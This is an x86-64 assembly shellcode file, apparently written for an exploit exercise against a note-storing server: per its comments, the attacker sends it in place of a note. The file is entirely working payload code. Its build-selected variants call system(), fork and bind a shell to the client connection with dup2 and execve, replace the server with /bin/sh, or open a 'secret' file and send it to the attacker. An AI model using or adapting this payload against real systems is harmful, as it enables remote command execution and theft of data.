# Code that the attacker sends in place of a note, and that runs where the server stores the note.
# One of these is selected by -D:
#
#   SYSTEM=ADDRESS  calls the C library's system(), at this address in the server
#   FORK            a child makes the connection its stdin, stdout and stderr, and executes a shell
#   EXECVE          executes a shell in place of the server
#   READ            sends a file, by the same calls and in the same order as the server
#
# FOLDER is the server's folder, CLIENT the descriptor of its connection.
    .text
    # The code is below the stack pointer, where calls would overwrite it.
    sub $16384, %rsp
    and $-16, %rsp
#if defined(SYSTEM)
    lea command(%rip), %rdi
    mov $SYSTEM, %eax
    call *%rax
    jmp end
#elif defined(READ)
    # The server would now receive the next request: one byte of it suffices.
    call receive
    mov $257, %eax              # openat
    mov $-100, %edi
    lea secret(%rip), %rsi
    xor %edx, %edx
    syscall
    mov %eax, %ebx
    mov $262, %eax              # newfstatat, of the file itself
    mov %ebx, %edi
    lea end(%rip), %rsi
    mov $-1, %edx
    syscall
    # The head of a reply, and the file.
    mov $4, %eax
    call answer
    mov %ebx, %edi
    call receive_from
    call answer
    mov %ebx, %edi
    call receive_from
    mov $3, %eax                # close
    mov %ebx, %edi
    syscall
    # Receives until the client disconnects; then the worker ends.
    call receive
    jmp end
receive:
    mov $CLIENT, %edi
receive_from:
    xor %eax, %eax
    mov %rsp, %rsi
    sub $4096, %rsi
    mov $2048, %edx
    syscall
    ret
answer:
    mov %eax, %edx
    mov $1, %eax                # write
    mov $CLIENT, %edi
    mov %rsp, %rsi
    sub $4096, %rsi
    syscall
    ret
#else
#if defined(FORK)
    mov $57, %eax
    syscall
    test %eax, %eax
    jnz end
    xor %esi, %esi
again:
    mov $33, %eax               # dup2
    mov $CLIENT, %edi
    syscall
    inc %esi
    cmp $3, %esi
    jne again
#endif
    lea shell(%rip), %rdi
    lea option(%rip), %rsi
    lea command(%rip), %rdx
    push $0
    push %rdx
    push %rsi
    push %rdi
    mov %rsp, %rsi
    xor %edx, %edx
    mov $59, %eax               # execve
    syscall
#endif
end:
    xor %edi, %edi
    mov $231, %eax              # exit_group
    syscall
shell:
    .asciz "/bin/sh"
option:
    .asciz "-c"
command:
    .ascii "echo pwned>"
    .ascii FOLDER
    .asciz "/pwned"
secret:
    .ascii FOLDER
    .asciz "/secret"
